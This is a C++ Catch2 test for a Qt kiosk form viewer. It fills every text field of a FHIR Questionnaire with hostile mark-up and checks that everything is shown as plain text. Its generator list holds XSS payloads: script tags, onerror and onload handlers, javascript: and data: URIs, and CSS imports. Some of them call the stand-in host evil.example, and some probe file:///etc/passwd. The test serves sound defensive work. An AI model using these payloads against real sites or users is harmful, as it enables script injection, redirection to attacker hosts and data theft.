// SPDX-License-Identifier: GPL-3.0-or-later
// Mark-up that wants to do something, in every place of a form that holds words: on the screen it
// is words or nothing.
#include "tests/support/StringMakers.h"
#include "tests/ui/forms/ShownForm.h"
#include "ui/forms/HelpPanel.h"
#include "ui/widgets/Button.h"
#include "ui/widgets/QrCode.h"

#include <catch2/catch.hpp>

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QLabel>
#include <QTextBrowser>

using namespace Qt::StringLiterals;
using namespace kiosk;

namespace {

using Form = test::ShownForm;

const auto standard = u"http://hl7.org/fhir/StructureDefinition/"_s;

QJsonObject extension(const QString &name, const QString &type, const QJsonValue &value)
{
    return {{u"url"_s, standard + name}, {type, value}};
}

QJsonObject control(const QString &code)
{
    return extension(
        u"questionnaire-itemControl"_s,
        u"valueCodeableConcept"_s,
        QJsonObject{{u"coding"_s,
                     QJsonArray{QJsonObject{
                         {u"system"_s, u"http://hl7.org/fhir/questionnaire-item-control"_s},
                         {u"code"_s, code}}}}});
}

/// The fragment as XHTML beside a text.
QJsonObject dressed(const QString &fragment)
{
    return {{u"extension"_s,
             QJsonArray{extension(u"rendering-xhtml"_s,
                                  u"valueString"_s,
                                  u"<div>Before "_s + fragment + u" after</div>"_s)}}};
}

/// The fragment in the words of a question, of its choices, of displays of each control, in
/// Markdown, in a style and as a link.
QByteArray formWith(const QString &fragment)
{
    QJsonArray displays;
    for (const QString &code : {u"help"_s, u"flyover"_s, u"legal"_s, u"prompt"_s})
        displays.append(QJsonObject{{u"linkId"_s, u"q."_s + code},
                                    {u"type"_s, u"display"_s},
                                    {u"text"_s, fragment},
                                    {u"_text"_s, dressed(fragment)},
                                    {u"extension"_s, QJsonArray{control(code)}}});
    const QJsonObject choice{
        {u"linkId"_s, u"q"_s},
        {u"type"_s, u"open-choice"_s},
        {u"prefix"_s, fragment},
        {u"_prefix"_s, dressed(fragment)},
        {u"text"_s, fragment},
        {u"_text"_s, dressed(fragment)},
        {u"extension"_s,
         QJsonArray{
             extension(u"questionnaire-supportLink"_s, u"valueUri"_s, fragment),
             extension(u"entryFormat"_s, u"valueString"_s, fragment),
             QJsonObject{
                 {u"url"_s,
                  u"http://hl7.org/fhir/uv/sdc/StructureDefinition/sdc-questionnaire-openLabel"_s},
                 {u"valueString"_s, fragment}}}},
        {u"answerOption"_s,
         QJsonArray{
             QJsonObject{{u"valueString"_s, fragment}, {u"_valueString"_s, dressed(fragment)}}}},
        {u"item"_s, displays}};
    const QJsonObject marked{
        {u"linkId"_s, u"m"_s},
        {u"type"_s, u"display"_s},
        {u"text"_s, u"plain"_s},
        {u"_text"_s,
         QJsonObject{{u"extension"_s,
                      QJsonArray{extension(u"rendering-markdown"_s, u"valueMarkdown"_s, fragment),
                                 extension(u"rendering-style"_s, u"valueString"_s, fragment)}}}}};
    return QJsonDocument(QJsonObject{{u"resourceType"_s, u"Questionnaire"_s},
                                     {u"status"_s, u"active"_s},
                                     {u"title"_s, fragment},
                                     {u"_title"_s, dressed(fragment)},
                                     {u"item"_s, QJsonArray{choice, marked}}})
        .toJson();
}

} // namespace

TEST_CASE("Hostile mark-up in a form is words or nothing", "[forms][ui]")
{
    const QString fragment = GENERATE(values<QString>(
        {u"<script>alert('x-run')</script>"_s,
         u"<SCRIPT SRC=\"http://evil.example/x-run.js\"></SCRIPT>"_s,
         u"<img src=\"file:///etc/passwd\" onerror=\"alert('x-run')\"/>"_s,
         u"<a href=\"javascript:alert('x-run')\">link</a>"_s,
         u"<a href=\"data:text/html;base64,PHNjcmlwdD4=\">link</a>"_s,
         u"[link](javascript:alert('x-run'))"_s,
         u"javascript:alert('x-run')"_s,
         u"data:text/html,<script>alert('x-run')</script>"_s,
         u"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert('x-run')\"/>"_s,
         u"<p style=\"width:expression(alert('x-run'));background:url(http://evil.example/t)\">p</p>"_s,
         u"<style>@import url(http://evil.example/x-run.css);</style>"_s,
         u"<iframe src=\"http://evil.example/x-run\"></iframe>"_s,
         u"<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\"/>"_s,
         u"<form action=\"http://evil.example/\"><input name=\"x\"/></form>"_s,
         u"<object data=\"file:///etc/passwd\"></object>"_s,
         u"&lt;script&gt;alert('x-run')&lt;/script&gt;"_s,
         u"&#60;img src=x onerror=alert(1)&#62;"_s,
         u"<b><i>x</b></i><script>"_s,
         u"<![CDATA[<script>alert('x-run')</script>]]>"_s,
         u"<table background=\"http://evil.example/t.png\"><tr><td>t</td></tr></table>"_s}));
    CAPTURE(fragment);
    Form form(formWith(fragment));
    for (auto *panel : form.view.findChildren<HelpPanel *>())
        for (auto *button : panel->findChildren<Button *>())
            if (button->isVisible())
                button->click();
    form.settle();

    // Nothing on the page reads mark-up, follows a link or shows a tip that would.
    CHECK(form.view.findChildren<QTextBrowser *>().isEmpty());
    int labels = 0;
    for (const QLabel *label : form.view.findChildren<QLabel *>()) {
        ++labels;
        CHECK(label->textFormat() == Qt::PlainText);
        CHECK_FALSE(label->openExternalLinks());
        CHECK(label->toolTip().isEmpty());
    }
    CHECK(labels > 5);
    for (const QWidget *widget : form.view.findChildren<QWidget *>())
        CHECK(widget->toolTip().isEmpty());

    // What is taken over from XHTML has no word of what would have run.
    const QString words
        = form.session.styledText(form.session.find(u"q"_s)).text; // the plain text if unreadable
    if (words != fragment && !fragment.startsWith(u"&") && !fragment.contains(u"CDATA")
        && fragment.startsWith(u'<'))
        CHECK_FALSE(words.contains(u"x-run"));

    // A code to scan is made of web pages alone.
    for (const QrCode *code : form.view.findChildren<QrCode *>())
        CHECK_FALSE(code->isVisible());

    // What is not taken over is told to the author.
    QStringList told;
    for (const fhir::NotHonoured &each : form.reading.notHonoured)
        told += each.pointer;
    CHECK(told.contains(u"/_title/extension/0"_s));
    CHECK(told.contains(u"/item/0/_prefix/extension/0"_s));
    CHECK(told.contains(u"/item/0/answerOption/0/_valueString/extension/0"_s));
}
